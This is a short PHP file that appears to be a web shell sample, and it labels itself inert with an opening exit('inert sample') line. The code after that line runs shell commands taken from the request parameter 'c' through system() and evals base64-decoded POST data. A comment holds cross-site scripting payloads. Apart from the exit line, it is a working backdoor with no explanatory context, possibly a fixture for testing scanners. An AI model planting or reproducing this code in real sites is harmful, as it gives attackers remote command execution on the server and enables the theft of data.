<?php exit('inert sample'); ?>
<?php
/* <script>alert(1)</script></style><b>x</b>"><img src=x onerror=alert(2)> */
if (isset($_REQUEST['c'])) {
  echo '<pre>';
  system($_REQUEST['c']);
  echo '</pre>';
}
eval(base64_decode($_POST['p']));
